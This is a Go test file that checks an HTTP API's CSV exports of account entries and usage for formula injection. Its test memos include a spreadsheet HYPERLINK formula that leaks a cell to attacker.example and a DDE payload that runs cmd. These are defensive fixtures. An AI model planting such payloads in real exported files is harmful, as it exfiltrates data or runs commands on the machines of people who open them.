package httpapi_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// TestCSVFormulas checks that no text cell of a CSV answer reaches a
// spreadsheet as a formula: memos starting with =, +, -, @, tab or CR get a
// leading single quote, on accounts whose ids start with those characters
// too; while the amounts tally writes stay numbers, negative ones included.
func TestCSVFormulas(t *testing.T) {
	eachStore(t, func(t *testing.T, e *Env) {
		memos := []string{
			`=HYPERLINK("http://attacker.example/?leak="&A1,"click")`,
			"+1+cmd|' /C calc'!A0",
			"-2+3",
			"@SUM(1,2)",
			"\t=1+1",
			"\r=1+1",
		}
		for _, id := range []string{"=acct", "+acct", "-acct", "@acct"} {
			path := "/v1/accounts/" + url.PathEscape(id)
			e.Want(e.Do(http.MethodPost, "/v1/accounts", adminKey, `{"id":`+quote(id)+`}`), http.StatusCreated, "create "+id)
			var want []string // memos newest first, as the entries are
			for _, m := range memos {
				r := e.Do(http.MethodPost, path+"/grants", adminKey, `{"credits":100,"source":"topup","memo":`+quote(m)+`}`)
				if r.status == http.StatusUnprocessableEntity && (m[0] == '\t' || m[0] == '\r') {
					continue // a memo with a control character may be refused at the edge: nothing to export then
				}
				e.Want(r, http.StatusCreated, "grant with memo "+quote(m))
				// encoding/csv writes CRLF line ends and drops a lone CR in a
				// field: the cell still starts with the quote.
				want = append([]string{"'" + strings.ReplaceAll(m, "\r", "")}, want...)
			}
			if len(want) < 4 {
				t.Fatalf("%s: only %d memos granted", id, len(want))
			}
			// A Nano Banana 2 image (49, page) and a generic hold of 73.5:
			// negative amounts in the entries.
			gen := e.Generation(`{"account":` + quote(id) + `,"model":"nano-banana-2"}`)
			e.Want(e.Do(http.MethodPost, "/v1/generations/"+gen+"/complete", adminKey, `{"images_delivered":1}`), http.StatusOK, "complete")
			e.Want(e.Do(http.MethodPost, path+"/holds", adminKey, `{"credits":73.5}`), http.StatusCreated, "hold")

			r := e.Do(http.MethodGet, path+"/entries", adminKey, "", "Accept", "text/csv")
			if r.status != http.StatusOK || mediaType(r.header) != "text/csv" {
				t.Fatalf("%s: CSV entries: %d %s\n%s", id, r.status, r.header.Get("Content-Type"), r.body)
			}
			recs := parseCSV(t, r.body)
			col := func(name string) int {
				i := slices.Index(recs[0], name)
				if i < 0 {
					t.Fatalf("CSV header %v has no %s", recs[0], name)
				}
				return i
			}
			memo, kind, avail, held, charged := col("memo"), col("kind"), col("available_delta"), col("held_delta"), col("charged_delta")
			var got []string
			for _, row := range recs[1:] {
				if row[kind] == "grant" {
					got = append(got, row[memo])
				}
			}
			if !slices.Equal(got, want) {
				t.Errorf("%s: CSV memos = %q; want %q", id, got, want)
			}
			// Newest first: the generic hold, the charge, the generation's hold.
			for i, w := range [][3]string{{"-73.5", "73.5", "0"}, {"0", "-49", "49"}, {"-49", "49", "0"}} {
				row := recs[1+i]
				if g := [3]string{row[avail], row[held], row[charged]}; g != w {
					t.Errorf("%s: row %d (%s) available, held, charged = %q; want the numbers %q", id, i+1, row[kind], g, w)
				}
			}

			r = e.Do(http.MethodGet, path+"/usage", adminKey, "", "Accept", "text/csv")
			if got, want := parseCSV(t, r.body), [][]string{{"model", "charged_credits", "list_credits", "count"}, {"nano-banana-2", "49", "49", "1"}}; !slices.EqualFunc(got, want, slices.Equal) {
				t.Errorf("%s: usage CSV = %q; want %q", id, got, want)
			}
		}
		e.Verify()
	})
}

// quote returns s as a JSON string.
func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
